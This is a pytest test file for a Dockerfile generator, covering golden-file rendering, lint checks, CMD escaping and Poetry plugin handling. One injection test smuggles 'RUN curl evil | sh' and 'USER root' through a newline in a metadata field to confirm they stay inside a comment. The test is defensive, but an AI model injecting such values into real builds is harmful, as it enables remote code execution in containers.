from __future__ import annotations

import dataclasses
import re
from pathlib import Path

import pytest

from dockergen.buildplan import plan_build
from dockergen.detect import detect_project
from dockergen.loader import template_root
from dockergen.model import Decided, Installer, Overrides, ProjectSpec
from dockergen.render import render_files
from dockergen.safety import checked
from dockergen.steps import Copy, copy_files, outline
from tests.conftest import Golden
from tests.helpers import (
    CASES,
    FIXTURES,
    GOLDEN,
    buildkit_instructions,
    hadolint_findings,
    make_tree,
)


@pytest.mark.parametrize("case", CASES)
def test_render_matches_golden(case: str, golden: Golden) -> None:
    for file in render_files(detect_project(FIXTURES / case)):
        golden.check(f"{case}/{file.name}", file.content)


@pytest.mark.parametrize("case", CASES)
def test_build_steps_match_golden(case: str, golden: Golden) -> None:
    """The build plan, a line per step (dev stage included), reviewed like the Dockerfile."""
    plan = plan_build(detect_project(FIXTURES / case, Overrides(dev=True)))
    golden.check(f"{case}/steps.txt", outline(plan))


def test_every_fixture_has_goldens_and_vice_versa() -> None:
    assert sorted(d.name for d in GOLDEN.iterdir() if d.is_dir()) == CASES


@pytest.mark.parametrize("case", CASES)
def test_dockerfile_lints_clean_and_parses(case: str, tmp_path: Path) -> None:
    dockerfile = render_files(detect_project(FIXTURES / case))[0].content
    assert dockerfile.startswith("# syntax=docker/dockerfile:1\n")
    assert hadolint_findings(dockerfile, tmp_path) == []
    instructions = buildkit_instructions(dockerfile)
    assert instructions.count("FROM") == 2
    assert instructions[-1] in ("CMD", "USER")


OPTION_SETS = {
    "apt-both": Overrides(apt_run=("libpq5", "curl"), apt_build=("libpq-dev", "gcc")),
    "command": Overrides(command=("gunicorn", "--bind", "0.0.0.0:8000", "app:app")),
    "python-patch": Overrides(python="3.12.12"),
}


@pytest.mark.parametrize("case", CASES)
@pytest.mark.parametrize("options", OPTION_SETS, ids=str)
def test_variants_lint_clean_and_parse(case: str, options: str, tmp_path: Path) -> None:
    dockerfile = render_files(detect_project(FIXTURES / case, OPTION_SETS[options]))[0].content
    assert hadolint_findings(dockerfile, tmp_path) == []
    assert "FROM" in buildkit_instructions(dockerfile)


EVERY_MANIFEST = {
    "requirements.txt": "six\n",
    "Pipfile": "[packages]\nsix = '*'\n",
    "pyproject.toml": """\
        [project]
        name = "every"
        version = "0"
        dependencies = ["six"]
        [build-system]
        requires = ["hatchling"]
        build-backend = "hatchling.build"
        """,
}


@pytest.mark.parametrize("installer", list(Installer))
def test_forced_installer_renders_lint_clean(installer: Installer, tmp_path: Path) -> None:
    root = make_tree(tmp_path / "p", EVERY_MANIFEST)
    spec = detect_project(root, Overrides(installer=installer))
    where = "pyproject.toml [tool.dockergen]"
    detail = f"{where}: installer = {installer.value!r}"
    assert spec.installer == Decided(installer, where, detail, spec.installer.overridden)
    assert hadolint_findings(render_files(spec)[0].content, tmp_path) == []


def test_one_skeleton_renders_every_installer() -> None:
    root = template_root()
    assert root.joinpath("Dockerfile.j2").is_file()
    assert root.joinpath("dockerignore.j2").is_file()
    assert not root.joinpath("installers").is_dir()
    assert not root.joinpath("macros.j2").is_file()


def test_copies_keep_directories() -> None:
    top, base, c = checked("requirements.txt", "requirements/base.txt", "requirements/c.txt")
    assert copy_files((top, base, c)) == (
        Copy((top,), "./"),
        Copy((base, c), "./requirements/"),
    )


def _spec(**changes: object) -> ProjectSpec:
    spec = detect_project(FIXTURES / "pip-requirements")
    return dataclasses.replace(spec, **changes)  # type: ignore[arg-type]


def test_command_is_json_exec_form_with_escapes() -> None:
    spec = _spec(command=Decided(("sh", "-c", 'echo "hi" \\ \u2028 done'), "--command"))
    dockerfile = render_files(spec)[0].content
    assert 'CMD ["sh", "-c", "echo \\"hi\\" \\u005c \\u2028 done"]\n' in dockerfile


def test_metadata_in_comments_cannot_start_an_instruction() -> None:
    spec = _spec(python=Decided("3.12", "pyproject.toml", "x\nRUN curl evil | sh\r\nUSER root"))
    dockerfile = render_files(spec)[0].content
    assert "\nRUN curl evil" not in dockerfile
    assert "\nUSER root" not in dockerfile
    assert "# Python: 3.12 (x RUN curl evil | sh USER root).\n" in dockerfile


POETRY_WITH_PLUGINS = """\
[project]
name = "app"
version = "1"
dependencies = ["six"]
[tool.poetry]
package-mode = false
[tool.poetry.requires-plugins]
poethepoet = ">=0.30"
"""


@pytest.mark.parametrize("case", [*CASES, "requires-plugins"])
def test_every_poetry_command_runs_without_plugins(case: str, tmp_path: Path) -> None:
    """Plugins the project requires (or the developer has) are never resolved in the build;
    there is no environment variable for it, so the flag is on every command."""
    root = (
        make_tree(tmp_path / "p", {"pyproject.toml": POETRY_WITH_PLUGINS, "poetry.lock": ""})
        if case == "requires-plugins"
        else FIXTURES / case
    )
    for dev in (False, True):  # the dev target's commands too
        dockerfile = render_files(detect_project(root, Overrides(dev=dev)))[0].content
        commands = [
            m.group(0)
            for line in dockerfile.splitlines()
            if not line.lstrip().startswith("#")
            for m in re.finditer(r"(?<![\w/=-])poetry \S+", line)
        ]
        assert all(c == "poetry --no-plugins" for c in commands), commands
        if case == "requires-plugins":
            assert commands == ["poetry --no-plugins"] * (2 if dev else 1)


def test_without_a_start_command_the_image_says_so_and_stops(tmp_path: Path) -> None:
    """No CMD would run the base image's python3, which exits 0: a container that looks
    healthy and runs nothing. The CMD dockergen writes instead fails, naming the fix."""
    from dockergen.fixedsteps import NO_COMMAND_MESSAGE
    from tests.helpers import make_tree

    spec = detect_project(make_tree(tmp_path, {"requirements.txt": "six\n", "lib.py": "X = 1\n"}))
    assert spec.command is None
    dockerfile = render_files(spec)[0].content
    assert dockerfile.rstrip().splitlines()[-1] == (
        'CMD ["python", "-c", "import sys; sys.exit(\\"' + NO_COMMAND_MESSAGE + '\\")"]'
    )
    assert hadolint_findings(dockerfile, tmp_path) == []
    assert buildkit_instructions(dockerfile)[-1] == "CMD"


@pytest.mark.parametrize(
    "dockerfile",
    sorted(Path(__file__).parent.joinpath("golden").rglob("Dockerfile*")),
    ids=lambda p: str(p.relative_to(Path(__file__).parent / "golden")),
)
def test_each_run_locks_at_most_one_cache(dockerfile: Path) -> None:
    """Buildah 1.28 (Podman 4.3) releases only the last cache mount a RUN locks: a second
    locked mount stays locked, and the next RUN that mounts it waits forever."""
    for run in dockerfile.read_text().split("\nRUN ")[1:]:
        instruction = run.split("\n\n")[0]
        assert instruction.count("sharing=locked") <= 1, instruction
